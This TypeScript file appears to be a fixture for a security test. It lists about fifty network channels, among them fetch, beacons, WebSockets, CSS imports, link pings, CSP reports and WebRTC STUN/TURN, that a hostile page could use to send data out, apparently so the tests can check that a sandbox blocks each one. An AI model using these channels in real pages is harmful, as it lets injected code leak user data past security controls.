/** Where a way out leads: a web server, a UDP port of the same host, and a name that only DNS could resolve. */
export type Target = { readonly web: string; readonly host: string; readonly udpPort: number; readonly name: string }

/** These functions run in the page: they may use nothing from outside but these two helpers, which are sent along. */
function add(tag: string, properties: Readonly<Record<string, string>>): HTMLElement {
  const element = Object.assign(document.createElement(tag), properties)
  document.body.append(element)
  return element
}

function callPeer(server: RTCIceServer, isRelayed: boolean): unknown {
  const peer = new RTCPeerConnection({ iceServers: [server], iceTransportPolicy: isRelayed ? 'relay' : 'all' })
  peer.createDataChannel('x')
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer))
}

export const HELPERS = [add, callPeer] as const

/** The ways of a hostile page to say something to someone. Navigation is in security.test.ts. */
export const QUIET_WAYS_OUT: Readonly<Record<string, (target: Target) => unknown>> = {
  fetch: ({ web }) => fetch(`${web}/fetch`),
  'fetch of a name': ({ name }) => fetch(`http://fetch.${name}/`),
  'fetch without CORS': ({ web }) => fetch(`${web}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'x' }),
  'fetch that outlives the page': ({ web }) => fetch(`${web}/keepalive`, { keepalive: true, method: 'POST' }),
  XMLHttpRequest: ({ web }) => {
    const request = new XMLHttpRequest()
    request.open('GET', `${web}/xhr`)
    request.send()
  },
  beacon: ({ web }) => navigator.sendBeacon(`${web}/beacon`, 'x'),
  WebSocket: ({ web }) => new WebSocket(`${web.replace('http', 'ws')}/socket`),
  'WebSocket to a name': ({ name }) => new WebSocket(`wss://socket.${name}/`),
  EventSource: ({ web }) => new EventSource(`${web}/events`),
  WebTransport: ({ host, udpPort }) => new WebTransport(`https://${host}:${udpPort}/transport`).ready,
  'WebTransport to a name': ({ name }) => new WebTransport(`https://transport.${name}/`).ready,
  image: ({ web }) => Object.assign(new Image(), { src: `${web}/image` }),
  'image of a name': ({ name }) => Object.assign(new Image(), { src: `https://image.${name}/` }),
  'style sheet': ({ web }) => add('link', { rel: 'stylesheet', href: `${web}/sheet` }),
  'address in a style': ({ web }) => document.body.style.setProperty('background-image', `url(${web}/style)`),
  'imported style': ({ web }) => add('style', { textContent: `@import url(${web}/import);` }),
  'font of a style': ({ web }) =>
    add('style', {
      textContent: `@font-face { font-family: x; src: url(${web}/face) } body { font-family: x }`,
    }),
  font: ({ web }) => new FontFace('x', `url(${web}/font)`).load(),
  preload: ({ web }) => add('link', { rel: 'preload', as: 'image', href: `${web}/preload` }),
  modulepreload: ({ web }) => add('link', { rel: 'modulepreload', href: `${web}/modulepreload` }),
  prefetch: ({ web }) => add('link', { rel: 'prefetch', href: `${web}/prefetch` }),
  prerender: ({ web }) => add('link', { rel: 'prerender', href: `${web}/prerender` }),
  preconnect: ({ web }) => add('link', { rel: 'preconnect', href: web }),
  'preconnect to a name': ({ name }) => add('link', { rel: 'preconnect', href: `https://preconnect.${name}` }),
  'dns-prefetch': ({ name }) => add('link', { rel: 'dns-prefetch', href: `//prefetch.${name}` }),
  icon: ({ web }) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: `${web}/icon` })),
  manifest: ({ web }) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: `${web}/manifest` })),
  frame: ({ web }) => add('iframe', { src: `${web}/frame` }),
  'form in a frame': ({ web }) => {
    add('iframe', { name: 'inner' })
    ;(add('form', { action: `${web}/form`, method: 'post', target: 'inner' }) as HTMLFormElement).submit()
  },
  object: ({ web }) => add('object', { data: `${web}/object` }),
  embed: ({ web }) => add('embed', { src: `${web}/embed` }),
  script: ({ web }) => add('script', { src: `${web}/script` }),
  'module in a script': ({ web }) => import(/* @vite-ignore */ `${web}/module`),
  'script of a worker': ({ web }) =>
    new Worker(URL.createObjectURL(new Blob([`importScripts('${web}/worker'); fetch('${web}/from-worker')`]))),
  audio: ({ web }) => add('audio', { src: `${web}/audio` }),
  video: ({ web }) => add('video', { src: `${web}/video`, poster: `${web}/poster` }),
  'ping of a link': ({ web }) => add('a', { href: '#ping', ping: `${web}/ping` }).click(),
  'report of a policy': ({ web }) => {
    const policy = Object.assign(document.createElement('meta'), {
      httpEquiv: 'content-security-policy',
      content: `img-src 'none'; report-uri ${web}/report`,
    })
    document.head.append(policy)
    add('img', { src: 'app://clarion/nothing.png' })
  },
  'icon of a notification': ({ web }) => new Notification('x', { icon: `${web}/notification` }),
  'STUN over UDP': ({ host, udpPort }) => callPeer({ urls: `stun:${host}:${udpPort}` }, false),
  'STUN to a name': ({ name }) => callPeer({ urls: `stun:stun.${name}` }, false),
  'TURN over UDP': ({ host, udpPort }) =>
    callPeer({ urls: `turn:${host}:${udpPort}`, username: 'secret', credential: 'x' }, true),
  'TURN over TCP': ({ web }) =>
    callPeer({ urls: `turn:${new URL(web).host}?transport=tcp`, username: 'secret', credential: 'x' }, true),
  'TURN over TLS': ({ web }) =>
    callPeer({ urls: `turns:${new URL(web).host}?transport=tcp`, username: 'secret', credential: 'x' }, true),
  'TURN to a name': ({ name }) =>
    callPeer({ urls: `turn:turn.${name}?transport=tcp`, username: 'secret', credential: 'x' }, true),
}
